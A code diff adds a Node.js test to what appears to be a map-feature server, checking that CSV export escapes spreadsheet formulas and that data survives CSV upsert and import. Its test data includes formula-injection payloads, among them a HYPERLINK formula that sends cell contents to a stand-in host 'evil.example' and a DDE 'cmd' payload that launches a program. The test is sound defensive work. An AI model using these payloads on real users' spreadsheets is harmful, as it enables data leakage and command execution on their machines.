@@ -24,6 +24,7 @@ import test from 'node:test';
 import zlib from 'node:zlib';
 
 import { done, onemap, random } from './onemap.mjs';
+import { csv } from './roles.mjs';
 import { makeCity, places, ROWS, run, SOUTH, STEP, tileX, tileY, WEST } from './sample.mjs';
 import { raw, serve } from './server.mjs';
 import { untilWithin } from './until.mjs';
@@ -89,6 +90,28 @@ test('whoever does not see all of a row writes on the condition of what they see
     assert.equal((await patch(`"v${'0'.repeat(16)}"`, { weight: 3 })).status, 412);
     assert.equal((await ask(`${at}/c-none`, 'PATCH', { type, headers: { 'If-Match': first }, body: text({ properties: { weight: 3 } }) })).status, 412);
     assert.equal((await ask(one, 'DELETE', { headers: { 'If-Match': first } })).status, 204);
+});
+
+test('a table has no formulas, and comes back as it was', async (t) => {
+    const { city, dir } = await makeCity(t), { url } = await serve(t, city), at = `${url}${ITEMS}`;
+    const NOTES = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(1)', '\t=1', "'=1", "''@x", '=', '-3', '+86 769-2222', '-', "'s-Gravenhage", "it's", 'a=b', '一=二'];
+    for (const [i, note] of NOTES.entries()) assert.equal((await ask(at, 'POST', { body: text(feature(`f-${i}`, { note })) })).status, 201, note);
+    const table = (await ask(`${at}.csv?filter=${encodeURIComponent("id LIKE 'f-%'")}`)).body.toString(), cells = Object.fromEntries(csv(table).map((row) => [row.id, row.note]));
+    for (const [i, note] of NOTES.entries()) {
+        assert.ok(!/^[=@\t]|^[+-](?![\d.,() -]*$)/.test(cells[`f-${i}`]), `${note}: ${cells[`f-${i}`]}`);
+        assert.equal(cells[`f-${i}`], i < 8 ? `'${note}` : note);
+    }
+    const notes = async (from) => Object.fromEntries((await ask(`${from}?limit=100&filter=${encodeURIComponent("id LIKE 'f-%'")}`)).json().features.map((f) => [f.id, f.properties.note]));
+    const before = await notes(at);
+    assert.deepEqual(NOTES.map((_, i) => before[`f-${i}`]), NOTES);
+    assert.equal((await ask(`${at}?upsert=true`, 'POST', { type: CSV, body: table })).status, 200);
+    assert.deepEqual(await notes(at), before);
+    // ... and by an import.
+    const file = path.join(dir, 'place.csv'), other = path.join(dir, 'other');
+    await writeFile(file, table);
+    await done('import', other, 'place', file, '--quiet');
+    const again = await serve(t, other);
+    assert.deepEqual(await notes(`${again.url}${ITEMS}`), before);
 });
 
 test('one row lives', async (t) => {
